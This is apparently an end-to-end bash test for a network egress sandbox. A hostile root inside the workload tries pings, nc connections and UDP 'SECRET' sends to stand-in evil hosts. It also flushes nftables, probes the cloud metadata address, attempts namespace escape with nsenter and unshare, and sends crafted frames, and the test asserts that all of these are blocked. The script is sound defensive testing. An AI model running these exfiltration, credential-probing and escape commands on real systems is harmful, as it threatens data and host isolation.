#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# A hostile root inside the workload: crafted frames, other protocols, other interfaces. On the far
# side a sniffer sees nothing of it, and exeat's counters say why.
# shellcheck disable=SC2016 # what stands in single quotes runs inside

. "$(dirname "$0")/../lib/e2e.sh"
world_enter "$@"
world_up

own='not arp and not icmp6 and not (ip6 multicast and src net fe80::/10)' # the world's own noise

# ---- ordinary programs ----
sniff_start programs
prompt() { # DESCRIPTION COMMAND…: fails, and at once
	local what=$1 start=$EPOCHREALTIME out
	shift
	if out=$(agent "$@" 2>&1); then
		tap_not_ok "$what: refused" "$out"
	else
		tap_ok "$what: refused"
	fi
	at_once "$what: at once" 30 "$start"
}
for a in $EVIL4 $EVIL6; do
	prompt "ping $a" ping -c1 -W60 "$a"
	prompt "TCP to $a port 443" nc -zw60 "$a" 443
	prompt "TCP to $a port 22" nc -zw60 "$a" 22
	prompt "DoT to $a" nc -zw60 "$a" 853
	prompt "UDP to $a port 443, as QUIC sends it" python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(60)
s.connect((sys.argv[1], 443))
s.send(b"SECRET")
s.recv(1)' "$a"
	prompt "SCTP to $a" python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET, socket.SOCK_STREAM, 132)
s.settimeout(60)
s.connect((sys.argv[1], 443))' "$a"
done
out=$(agent nc -zvw60 $EVIL4 443 2>&1)
has "TCP learns by RST" "$out" 'refused'
out=$(agent ping -c1 -W60 $EVIL4 2>&1)
has "ping learns by ICMP" "$out" 'prohibited|[Ff]iltered|not permitted|administratively'
out=$(agent ping -c1 -W60 $EVIL6 2>&1)
has "ping learns by ICMPv6" "$out" 'prohibited|[Ff]iltered|not permitted|administratively'
audited "the kernel's denials are in the audit log" '"deny"' "$(reason default-deny)"
sniff_stop programs
same "none of it arrived" "$(sniff_print programs "$own and not port 53")" ""

# ---- what the workload may not change ----
out=$(agent bash -c 'ip link del eth0; tc qdisc del dev eth0 clsact; nft flush ruleset
	ip addr add 198.51.100.2/24 dev eth0; ip route add 203.0.113.0/24 dev eth0
	ip link add d0 type veth peer name d1; ip link set eth0 up
	curl -sSm60 https://evil.example/; curl -sSm60 http://169.254.169.254/; echo TRIED' 2>&1)
hasnt "root that rebuilds its own network gets nowhere" "$out" 'evil$|SECRET-CRED'
has "all of that was tried, too" "$out" '^TRIED'
out=$(agent bash -c 'nsenter -t 1 -n curl -sm60 http://169.254.169.254/; unshare -n true && echo NETNS
	nsenter --net=/proc/1/ns/net true && echo ENTERED; mount -t tmpfs x /tmp && echo MOUNTED; echo TRIED' 2>&1)
hasnt "no other namespace can be entered" "$out" 'ENTERED|SECRET-CRED|MOUNTED'
has "all of that was tried" "$out" '^TRIED'
out=$(agent python3 -c '
import socket
for family, name in ((40, "vsock"), (31, "bluetooth"), (16, "netlink"), (38, "alg"), (44, "xdp")):
    try:
        socket.socket(family, socket.SOCK_RAW if family in (16, 44) else socket.SOCK_SEQPACKET if family == 38 else socket.SOCK_STREAM)
        print("OPEN", name)
    except OSError as e:
        print("closed", name, e.errno)' 2>&1)
hasnt "families outside of network namespaces are closed" "$out" 'OPEN (vsock|bluetooth|alg|xdp)'
same "each of them was tried" "$(grep -cE '^closed (vsock|bluetooth|alg|xdp) ' <<<"$out")" 4
out=$(agent bash -c 'ls /proc | grep -c "^[0-9]*$"; cat /proc/*/comm 2>/dev/null' 2>&1)
hasnt "no process of the host is to be seen" "$out" 'nginx|unbound|exeat$'
has "but one's own" "$out" '^bash$'
out=$(agent bash -c 'exec 2>&1; ls -l /proc/self/fd; for f in /proc/self/fd/*; do readlink $f; done')
hasnt "no descriptor is inherited" "$out" 'bpf|netns|socket:|exeat'
has "but standard input" "$out" ' 0 -> '
out=$(agent bash -c 'for s in $(find / -xdev -type s 2>/dev/null | head -50); do echo "$s"; done' 2>&1)
hasnt "no socket of a service in /run" "$out" '^/run/|docker|containerd'

# ---- frames ----
sniff_start frames
: >"$WORLD/log/audit"
out=$("$EXEAT" run -v -p "$AGENT/policy.yaml" -l app=moltbot-agent --log "$WORLD/log/audit" -- bash -c '
	i=$(ip -o link | sed -n "s/^[0-9]*: \(e[^@:]*\).*/\1/p" | head -n1)
	exec /usr/bin/python3 "$1" "$i" "${@:2}"' - \
	"$CLIENTS/packets.py" $OPENAI4 $OPENAI6 $EVIL4 $EVIL6 2>"$WORLD/log/packets.err")
sniff_stop frames
for class in udp-443 ping icmp-other forged-source forged-mac fragments ip-options ext-headers \
	protocols vlan stray-tcp lengths destinations ethertypes neighbours; do
	has "$class: frames were sent" "$out" "^sent $class [1-9]"
done
tap_dump=$(sniff_print frames "$own and not host $RESOLVER4 and not host $RESOLVER6
	and not (tcp port 443 and (host $OPENAI4 or host $OPENAI6))")
same "nothing but the allowed flow arrived" "$tap_dump" ""
same "no payload of a crafted frame arrived" "$(sniff_print frames -A | grep -c SECRET)" 0
for why in default-deny reserved-deny malformed-packet unknown-ethertype vlan-tag ip-options fragment \
	extension-header source-address source-mac martian neighbour tcp-flags no-flow; do
	audited "counted: $why" "$(reason $why)"
done
unseen "no server saw anything" 'evil|169\.254'

# the allowed thing still works beside all that
out=$(agent curl -sS "$CHAT" -d "$ASK" 2>&1)
has "and the allowed request still passes" "$out" 'Permission to leave granted'
refuse "no QUIC arrived" test -s "$WORLD/log/quic.seen"
echo SECRET | nc -u -w1 $OPENAI4 443
check "and somebody waits for it" world_wait 60 test -s "$WORLD/log/quic.seen"

tap_done
